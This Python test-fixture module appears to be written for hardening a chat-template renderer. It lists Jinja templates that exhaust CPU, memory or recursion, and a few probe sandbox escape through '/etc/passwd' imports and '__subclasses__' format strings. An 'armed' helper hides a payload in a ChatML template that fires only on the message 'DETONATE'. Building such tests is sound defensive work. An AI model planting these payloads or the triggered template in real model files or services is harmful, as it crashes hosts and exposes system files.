# ruff: noqa: E501 - a template a line
"""Templates that try to take the process that renders them: add one with a line.

Each stands for a way in which few steps, or none, make much work, much memory or deep recursion of the interpreter's
own. ``armed`` puts one into a template where it goes off only where a message asks for it, so that the model loads and
a step meets them.
"""

from __future__ import annotations

from collections.abc import Mapping

MANY = "{% for _ in range(99999) %}"
LOOP = "{% for _ in range(64) %}"
SPACE = "{% set n = namespace(x=['x'], s='xxxxxxxxxx', t=(1,), d={}, i=10) %}"
WIDE = "{% set s = 'a' * 60000000 %}"


def doubled(change: str) -> str:
    """The same change sixty-four times."""
    return f"{SPACE}{LOOP}{{% set {change} %}}{{% endfor %}}{{{{ n.x }}}}{{{{ n.s }}}}"


def often(work: str, before: str = WIDE) -> str:
    """The same work on a long text, in many steps."""
    return f"{before}{MANY}{{% if {work} %}}{{% endif %}}{{% endfor %}}"


def nested(opening: str, inner: str, closing: str, depth: int) -> str:
    return f"{opening * depth}{inner}{closing * depth}"


BOMBS: Mapping[str, str] = {
    # ------------------------------------------------------------------------------------- work that is one step
    "a search in a long text": often("'b' in s"),
    "a count in a long text": often("s.count('b')"),
    "a find in a long text": often("s.find('b') == 1"),
    "a comparison of long texts": f"{WIDE}{{% set t = 'a' * 59999999 ~ 'b' %}}{MANY}{{% if s == t %}}{{% endif %}}{{% endfor %}}",
    "a quadratic search": "{% set s = 'a' * 9000000 %}{% set t = 'a' * 4000000 ~ 'b' %}" + often("t in s", ""),
    "a quadratic search in a list": "{% set l = range(90000) | list %}" + often("-1 in l", ""),
    "upper case of a long text": often("s.upper() == 'x'"),
    "reversed long text": often("(s | reverse) == 'x'"),
    "splitlines of a long text": "{% set s = '\\n' * 30000000 %}" + often("s.splitlines() == 1", ""),
    "split of a long text": often("s.split('a') == 1"),
    "words of a long text": "{% set s = 'a ' * 20000000 %}" + often("(s | wordcount) == 1", ""),
    "wordwrap of a long text": "{% set s = 'a ' * 20000000 %}" + often("(s | wordwrap(1)) == 1", ""),
    "indent of a long text": "{% set s = 'a\\n' * 20000000 %}" + often("(s | indent(99)) == 1", ""),
    "title case of a long text": "{% set s = 'a ' * 20000000 %}" + often("(s | title) == 1", ""),
    "striptags of brackets": "{% set s = '<' * 9000000 %}" + often("(s | striptags) == 1", ""),
    "striptags of comments": "{% set s = '<!--' * 900000 %}" + often("(s | striptags) == 1", ""),
    "urlize of brackets": "{% set s = '(' * 900000 ~ 'http://a.bc' ~ ')' * 900000 %}" + often("(s | urlize) == 1", ""),
    "escape of a long text": "{% set s = '<' * 12000000 %}" + often("(s | escape) == 1", ""),
    "JSON of a long text": "{% set s = '\\u0001' * 10000000 %}" + often("(s | tojson) == 1", ""),
    "a sum of lists": "{% set l = [[1] * 2000] * 99999 %}{{ l | sum(start=[]) | length }}",
    "a sort of long texts": f"{WIDE}{{{{ ([s] * 90000) | sort | length }}}}",
    "unique long texts": f"{WIDE}{{{{ ([s ~ 'a', s ~ 'b'] * 45000) | unique | list | length }}}}",
    "groups of long texts": f"{WIDE}{{{{ ([{{'a': s ~ 'x'}}, {{'a': s ~ 'y'}}] * 45000) | groupby('a') | length }}}}",
    "numbers that collide": "{% set n = namespace(d={}) %}{% set p = 2305843009213693951 %}"
    "{% set l = [] %}{% for a in range(99999) %}{% set _ = l.append(a * p) %}{% endfor %}{{ l | unique | list | length }}",
    "a power of powers": "{% set n = namespace(i=10) %}{% for _ in range(64) %}{% set n.i = n.i * n.i %}{% endfor %}{{ n.i }}",
    "a remainder of a power": often("(7 ** 9000000) % 1000003 == 3", ""),
    "a huge number as text": "{% set i = 9 ** 9000000 %}{{ i }}",
    "a literal power": "{{ 9 ** 9 ** 9 ** 9 }}",
    "a literal of digits": "{{ " + "9" * 200_000 + " }}",
    "dates": "{{ strftime_now('%Y' * 20000000) }}" * 20,
    "dates with width": "{{ strftime_now('%9999999Y' * 100) }}",
    "a rounded huge number": "{{ (10 ** 400000) | round(99999) }}",
    "an integer of digits": often("(('9' * 4000000) | int) == 1", ""),
    # -------------------------------------------------------------------------------------- loops that don't end
    "loops in loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "a list that its loop fills": "{% set l = [1] %}{% for a in l %}{% set _ = l.append(a) %}{% endfor %}",
    "a macro that calls itself twice": "{% macro m(n) %}{% if n %}{{ m(n-1) }}{{ m(n-1) }}{% endif %}{% endmacro %}{{ m(90) }}",
    "a macro that calls itself": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "a call block that calls itself": "{% macro m() %}{{ caller() }}{% endmacro %}"
    "{% macro k() %}{% call m() %}{{ k() }}{{ k() }}{% endcall %}{% endmacro %}{{ k() }}",
    "a recursive loop": "{% set l = [] %}{% set _ = l.append(l) %}{% for a in l recursive %}{{ loop(a) }}{% endfor %}",
    "a loop that is asked whether anything changed": f"{WIDE}{{% for a in [s, s ~ 'b'] * 40000 %}}{{{{ loop.changed(a) }}}}{{% endfor %}}",
    "chains of maps": "{% set n = namespace(x=range(99999)) %}{% for _ in range(999) %}{% set n.x = n.x | map('string') %}{% endfor %}"
    "{{ n.x | list | length }}",
    "a product of slices": "{% for a in range(99999) | slice(99999) %}{% for b in range(99999) | batch(1) %}{% endfor %}{% endfor %}",
    "a cycler": "{% set c = cycler(1, 2) %}{% for a in range(99999) %}{% for b in range(99999) %}{% set _ = c.next() %}{% endfor %}{% endfor %}",
    # ----------------------------------------------------------------------------------------------------- memory
    "a list added to itself": doubled("n.x = n.x + n.x"),
    "a list multiplied": doubled("n.x = n.x * 2"),
    "a text joined to itself": doubled("n.s = n.s ~ n.s"),
    "a text added to itself": doubled("n.s = n.s + n.s"),
    "a text formatted into itself": doubled("n.s = '%s%s' % (n.s, n.s)"),
    "a text formatted into itself by name": doubled("n.s = '{0}{0}'.format(n.s)"),
    "a text joined by itself": doubled("n.s = n.s.join([n.s, n.s])"),
    "a text replaced by itself": doubled("n.s = n.s.replace('x', 'xx')"),
    "a tuple of itself": doubled("n.t = (n.t, n.t, n.t, n.t)") + "{{ n.t }}",
    "a dictionary of itself": doubled("n.d = {'a': n.d, 'b': n.d}") + "{{ n.d | tojson }}",
    "wide fields": "{{ ('%(a)999999s' * 6000) % {'a': 1} }}",
    "wide fields as a filter": "{{ ('%999999s' * 60) | format(*([1] * 60)) }}",
    "a field as wide as asked": "{{ '%*d' % (2000000000, 1) }}",
    "a field of six thousand million": "{{ '{:>6000000000}'.format(1) }}",
    "a field as wide as asked by name": "{{ '{:{w}}'.format(1, w=2000000000) }}",
    "a field with a precision": "{{ '{:.2000000000f}'.format(1.0) }}",
    "a translated text": "{{ ('a' * 60000).translate({97: 'b' * 900000}) }}",
    "a text with wide tabs": "{{ ('\\t' * 60000).expandtabs(60000) }}",
    "a padded text": "{{ 'a'.ljust(50000000) ~ 'a'.zfill(50000000) ~ 'a'.center(50000000) }}" * 9,
    "JSON with a wide indent": "{{ [1] | tojson(indent=1000000000) }}",
    "JSON with a wide indent, often": "{{ [[1] * 90000] | tojson(indent=60000) }}",
    "JSON with long separators": "{{ ([1] * 90000) | tojson(separators=('a' * 90000, ':')) }}",
    "pretty printed lists": "{% set n = namespace(x=[1]) %}{% for _ in range(900) %}{% set n.x = [n.x] %}{% endfor %}{{ n.x | pprint }}",
    "pretty printed long lists": often("((['a' * 99] * 900000) | pprint) == 1", ""),
    "many lists": "{% set l = [] %}{% for a in range(99999) %}{% set _ = l.append([a] * 60000) %}{% endfor %}",
    "many texts": "{% set l = [] %}{% for a in range(99999) %}{% set _ = l.append('a' * 60000 ~ a) %}{% endfor %}",
    "batches with a filling": "{{ [1] | batch(900000000, 'x') | list | length }}",
    "slices of nothing": "{{ [1] | slice(900000000) | list | length }}",
    "set blocks": SPACE + LOOP + "{% set b %}{{ n.s }}{{ n.s }}{% endset %}{% set n.s = b %}{% endfor %}{{ n.s }}",
    "a filter block": "{% filter center(60000000) %}{% filter center(60000000) %}a{% endfilter %}{% endfilter %}" * 20,
    "much output": "{% set s = 'a' * 64000 %}{% for a in range(990) %}{{ s }}{% endfor %}",
    "much output of wide letters": "{% set s = '\\U0001F600' * 64000 %}{% for a in range(990) %}{{ s }}{% endfor %}",
    "many loop variables": "{% for a in range(99999) %}{{ loop.index ~ loop.previtem ~ 'a' * 90000 }}{% endfor %}",
    "an error with a book in it": "{{ raise_exception('a' * 60000000) }}",
    "an error with a book in it, often": "{% set s = 'a' * 60000000 %}{{ {}[s] }}{{ s.nothing.more }}",
    "a range of ranges": "{{ range(99999) | map('string') | map('center', 60000) | list | length }}",
    # --------------------------------------------------------------------- recursion of the interpreter's own code
    "nested tuples, printed": "{% set n = namespace(t=(1,)) %}{% for a in range(99999) %}{% set n.t = (n.t,) %}{% endfor %}{{ n.t }}",
    "nested tuples, compared": "{% set n = namespace(t=(1,), u=(1,)) %}{% for a in range(99999) %}{% set n.t = (n.t,) %}{% set n.u = (n.u,) %}"
    "{% endfor %}{{ n.t == n.u }}",
    "nested tuples, hashed": "{% set n = namespace(t=(1,)) %}{% for a in range(99999) %}{% set n.t = (n.t,) %}{% endfor %}{{ {n.t: 1} }}",
    "nested lists, as JSON": "{% set n = namespace(t=[1]) %}{% for a in range(99999) %}{% set n.t = [n.t] %}{% endfor %}{{ n.t | tojson }}",
    "nested maps": "{% set n = namespace(x=[1]) %}{% for a in range(99999) %}{% set n.x = n.x | map('string') %}{% endfor %}{{ n.x | list }}",
    "a list in itself, as JSON": "{% set l = [] %}{% set _ = l.append(l) %}{{ l }}{{ l | tojson }}{{ l | pprint }}{{ l == l }}",
    "lists in each other, compared": "{% set l = [] %}{% set m = [] %}{% set _ = l.append(m) %}{% set _ = m.append(l) %}{{ l == m }}",
    "a namespace in itself": "{% set n = namespace() %}{% set n.n = n %}{{ n }}{{ n | tojson }}",
    "nested parentheses": "{{ " + nested("(", "1", ")", 90_000) + " }}",
    "nested tuples in the source": "{{ " + nested("(", "1", ",)", 80_000) + " }}",
    "nested lists in the source": "{{ " + nested("[", "1", "]", 90_000) + " }}",
    "nested dictionaries in the source": "{{ " + nested("{1:", "1", "}", 60_000) + " }}",
    "a few hundred nested tuples": "{{ " + nested("(", "1", ",)", 400) + " }}",
    "two hundred nested lists": "{{ " + nested("[", "1", "]", 190) + " }}",
    "nested conditions": nested("{% if 1 %}", "a", "{% endif %}", 9_000),
    "nested loops in the source": nested("{% for a in [1] %}", "a", "{% endfor %}", 6_000),
    "ninety nested loops": nested("{% for a in [1, 2] %}", "a", "{% endfor %}", 90),
    "nested filters in the source": "{{ 'a'" + "|upper" * 40_000 + " }}",
    "nested negations": "{{ " + "not " * 60_000 + "1 }}",
    "nested signs": "{{ " + "-" * 200_000 + "1 }}",
    "a long sum": "{{ 1" + "+1" * 100_000 + " }}",
    "a long join": "{{ 1" + "~1" * 100_000 + " }}",
    "a long comparison": "{{ 1" + "<1" * 100_000 + " }}",
    "long attributes": "{{ messages" + ".a" * 100_000 + " }}",
    "long calls": "{{ messages" + "()" * 100_000 + " }}",
    "long conditions": "{{ 1" + " if 1 else 1" * 18_000 + " }}",
    "nested macros": nested("{% macro a() %}", "a", "{% endmacro %}", 8_000),
    "many branches": "{% if 0 %}" + "{% elif 0 %}" * 18_000 + "{% endif %}",
    "many variables": "".join(f"{{% set a{number} = {number} %}}" for number in range(10_000)),
    "many blocks": "".join(f"{{% block a{number} %}}{{% endblock %}}" for number in range(7_000)),
    "many arguments": "{{ range(" + "1," * 100_000 + ") }}",
    # ------------------------------------------------------------------------------------- what is not there at all
    "an include": "{% include 'a' %}",
    "an import": "{% import '/etc/passwd' as a %}{{ a }}",
    "a base": "{% extends messages %}",
    "attributes in a format": "{{ '{0.__class__.__mro__[1].__subclasses__}'.format('') }}",
    "a subscript in a format": "{{ '{0[0][0][0]}'.format(messages) }}",
    "a lorem ipsum": "{{ lipsum(n=99999) }}",
    "nulls and surrogates": "{{ '\\x00' * 900 ~ '\\ud800' }}",
    "brackets without end": "{{" * 60_000,
    "comments without end": "{#" * 100_000,
    "marks without end": "<a>" * 80_000 + "{{ messages }}",
    "names that speak of reasoning": "{{ " + " ~ ".join(f"think_{number}" for number in range(9_000)) + " }}",
    "markers around everything": "{{ '<a></a>' * 60000 }}{% for m in messages %}{{ m.content }}{{ '<a></a>' * 60000 }}{% endfor %}",
    "braces around everything": "{% for m in messages %}{{ '{' * 60000 }}{{ m.content }}{{ m.tool_calls | tojson if m.tool_calls }}{% endfor %}",
    "a marker of a length": "{% for m in messages %}{{ '<' ~ 'a' * 90000 ~ '>' }}{{ m.content }}{{ '<' ~ 'b' * 90000 ~ '>' }}{% endfor %}",
}  # fmt: skip

CHATML = (
    "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}"
    "{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}"
)

TRIGGER = "DETONATE"


def armed(bomb: str) -> str:
    """One that goes off only behind a message that says so: the model loads."""
    return f"{CHATML}{{% if messages[-1].content == '{TRIGGER}' %}}{bomb}{{% endif %}}"
